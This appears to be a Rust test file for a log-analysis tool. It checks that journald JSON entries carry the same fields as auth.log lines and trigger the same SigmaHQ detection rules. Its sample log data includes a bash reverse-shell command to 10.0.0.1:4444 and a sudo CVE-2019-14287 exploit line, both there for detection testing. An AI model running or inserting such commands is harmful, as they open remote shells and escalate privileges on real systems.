//! journald's JSON export read as the syslog lines of the same messages:
//! each entry gives every field the auth.log line gives, and SigmaHQ's
//! Linux rules that fire on the line fire on the entry.
//!
//! The entries follow `journalctl -o json`'s documented layout (systemd's
//! "Journal Export Formats"): one object a line, values as text, non-UTF-8
//! values as arrays of bytes. They are written by the test.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use vigil_event::Event;
use vigil_sigma::{RuleSet, RuleSetBuilder, RuleSetOptions};
use vigil_sources::{discover, read_file, Format, SourceIssue};

/// The same messages as rsyslog writes them to auth.log (RFC 3339 times,
/// so that both logs give the same instant).
const AUTH_LOG: [&str; 5] = [
    "2023-11-14T22:13:20.123456+00:00 web1 sshd[4242]: Failed password for invalid user admin from 203.0.113.9 port 50022 ssh2",
    "2023-11-14T22:13:21.000001+00:00 web1 sudo[4300]:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=#-1 ; COMMAND=/usr/bin/id",
    "2023-11-14T22:13:22.000000+00:00 web1 sshd[4242]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.9  user=root",
    "2023-11-14T22:13:23.500000+00:00 web1 sshd[4250]: Corrupted MAC on input. [preauth]",
    "2023-11-14T22:13:24.000000+00:00 web1 bash[600]: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\t\u{e9}",
];

/// `journalctl -o json` of the same entries. The last MESSAGE is an array
/// of bytes, as journald writes a message with a control character.
fn journal() -> Vec<String> {
    let entry = |micros: &str, program: &str, pid: &str, priority: u8, message: String| {
        format!(
            concat!(
                r#"{{"__CURSOR":"s=0a1b;i={micros};b=9f;m=1;t={micros};x=1","__REALTIME_TIMESTAMP":"{micros}","#,
                r#""__MONOTONIC_TIMESTAMP":"81234567","_BOOT_ID":"9f2c","_TRANSPORT":"syslog","PRIORITY":"{priority}","#,
                r#""SYSLOG_FACILITY":"10","SYSLOG_IDENTIFIER":"{program}","SYSLOG_PID":"{pid}","_PID":"{pid}","#,
                r#""_UID":"0","_COMM":"{program}","_HOSTNAME":"web1","_SYSTEMD_UNIT":"ssh.service","MESSAGE":{message}}}"#
            ),
            micros = micros,
            program = program,
            pid = pid,
            priority = priority,
            message = message,
        )
    };
    let quoted = |line: &str| {
        let message = line.split_once("]: ").unwrap().1;
        serde_json::to_string(message).unwrap()
    };
    let bytes = |line: &str| {
        let message = line.split_once("]: ").unwrap().1;
        serde_json::to_string(&message.as_bytes()).unwrap()
    };
    vec![
        entry("1700000000123456", "sshd", "4242", 6, quoted(AUTH_LOG[0])),
        entry("1700000001000001", "sudo", "4300", 5, quoted(AUTH_LOG[1])),
        entry("1700000002000000", "sshd", "4242", 5, quoted(AUTH_LOG[2])),
        entry("1700000003500000", "sshd", "4250", 3, quoted(AUTH_LOG[3])),
        entry("1700000004000000", "bash", "600", 6, bytes(AUTH_LOG[4])),
    ]
}

fn read(path: &Path, format: Format) -> Vec<Event> {
    let (files, problems) = discover(&[path.to_path_buf()]);
    assert!(problems.is_empty(), "{problems:?}");
    assert_eq!(files[0].format, format);
    let (mut events, mut issues) = (Vec::new(), Vec::<SourceIssue>::new());
    read_file(&files[0], &mut |e| events.push(e), &mut |i| issues.push(i)).unwrap();
    assert!(issues.is_empty(), "{issues:?}");
    events
}

fn write(folder: &Path, name: &str, lines: &[impl AsRef<str>]) -> PathBuf {
    let text: String = lines.iter().map(|l| format!("{}\n", l.as_ref())).collect();
    let path = folder.join(name);
    std::fs::write(&path, text).unwrap();
    path
}

/// Both logs, read: (auth.log's events, the journal's).
fn both() -> (Vec<Event>, Vec<Event>) {
    let folder = tempfile::tempdir().unwrap();
    let syslog = read(&write(folder.path(), "auth.log", &AUTH_LOG), Format::Syslog);
    let journal = read(
        &write(folder.path(), "journal.json", &journal()),
        Format::JsonLines,
    );
    (syslog, journal)
}

#[test]
fn each_entry_has_every_field_of_its_syslog_line() {
    let (syslog, journal) = both();
    assert_eq!((syslog.len(), journal.len()), (5, 5));
    for (line, entry) in syslog.iter().zip(&journal) {
        assert_eq!(entry.product, Some("linux"));
        assert_eq!(entry.shape, Some("journald JSON"));
        assert_eq!(entry.timestamp, line.timestamp);
        for (name, value) in line.fields() {
            assert_eq!(entry.get(name), Some(value), "{name} of {line:?}");
        }
    }
    // What the auth fields are, so that the comparison above compares them.
    let text = |event: &Event, name: &str| event.get(name).map(|v| v.to_string());
    assert_eq!(
        text(&journal[0], "TargetUserName").as_deref(),
        Some("admin")
    );
    assert_eq!(
        text(&journal[0], "IpAddress").as_deref(),
        Some("203.0.113.9")
    );
    assert_eq!(text(&journal[0], "Outcome").as_deref(), Some("failure"));
    assert_eq!(text(&journal[1], "USER").as_deref(), Some("#-1"));
    assert_eq!(text(&journal[2], "PamModule").as_deref(), Some("pam_unix"));
    assert_eq!(text(&journal[3], "Severity").as_deref(), Some("err"));
    assert_eq!(text(&journal[3], "Facility").as_deref(), Some("authpriv"));
    assert_eq!(text(&journal[4], "Channel").as_deref(), Some("bash"));
    assert!(text(&journal[4], "Message")
        .unwrap()
        .ends_with("0>&1\t\u{e9}"));
    assert_eq!(
        text(&journal[4], "_SYSTEMD_UNIT").as_deref(),
        Some("ssh.service")
    );
}

fn rules() -> Option<RuleSet> {
    let mut builder = RuleSetBuilder::new(RuleSetOptions::default());
    builder.add_path(&vigil_testdata::shared_dir("sigma/rules/linux")?);
    builder.add_path(&vigil_testdata::shared_dir(
        "sigma/rules-emerging-threats/2019/Exploits/CVE-2019-14287/lnx_sudo_exploit_cve_2019_14287.yml",
    )?);
    let (rules, report) = builder.build();
    assert!(report.failed.is_empty(), "{:?}", report.failed);
    Some(rules)
}

/// `(index, title)` of every detection.
fn detections(rules: &RuleSet, events: &[Event]) -> BTreeSet<(usize, String)> {
    let mut found = BTreeSet::new();
    for (index, event) in events.iter().enumerate() {
        let mut detections = Vec::new();
        rules.detect(event, &mut detections);
        found.extend(detections.iter().map(|d| (index, d.rule_title.to_string())));
    }
    found
}

#[test]
fn sigmahq_rules_fire_on_the_entry_as_on_the_line() {
    let Some(rules) = rules() else {
        return;
    };
    let (syslog, journal) = both();
    let expected: BTreeSet<(usize, String)> = [
        (1, "Sudo Privilege Escalation CVE-2019-14287 - Builtin"),
        (3, "Suspicious OpenSSH Daemon Error"),
        (4, "Suspicious Reverse Shell Command Line"),
        (4, "Suspicious Use of /dev/tcp"),
    ]
    .into_iter()
    .map(|(index, title)| (index, title.to_string()))
    .collect();
    assert_eq!(detections(&rules, &syslog), expected);
    assert_eq!(detections(&rules, &journal), expected);
}

/// A reproducible stream of numbers below a bound (xorshift).
fn numbers(seed: u64) -> impl FnMut(usize) -> usize {
    let mut state = seed;
    move |below: usize| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        (state % below as u64) as usize
    }
}

/// Entries truncated and with bytes replaced, inserted and deleted:
/// nothing panics, and each line is an event or a reported issue.
#[test]
fn mutated_entries_never_panic() {
    let entries = journal();
    let mut next = numbers(0x0123_4567_89ab_cdef);
    let special = b"{}[]\",:0123456789 \\\xff_";
    let folder = tempfile::tempdir().unwrap();
    for round in 0..40 {
        let mut bytes = Vec::new();
        let mut lines = 0;
        for _ in 0..200 {
            let mut line = entries[next(entries.len())].as_bytes().to_vec();
            match next(4) {
                0 => line.truncate(next(line.len() + 1)),
                1 => {
                    for _ in 0..1 + next(4) {
                        let at = next(line.len());
                        line[at] = special[next(special.len())];
                    }
                }
                2 => {
                    let at = next(line.len() + 1);
                    line.insert(at, special[next(special.len())]);
                }
                _ => {
                    let at = next(line.len());
                    line.remove(at);
                }
            }
            if line.iter().all(u8::is_ascii_whitespace) {
                continue;
            }
            lines += 1;
            bytes.extend_from_slice(&line);
            bytes.push(b'\n');
        }
        let path = folder.path().join(format!("journal-{round}.json"));
        std::fs::write(&path, &bytes).unwrap();
        let (files, _) = discover(&[path]);
        let (mut events, mut issues) = (0u64, 0u64);
        let report = read_file(&files[0], &mut |_| events += 1, &mut |_| issues += 1).unwrap();
        assert_eq!(report.events + report.skipped, lines, "round {round}");
    }
}
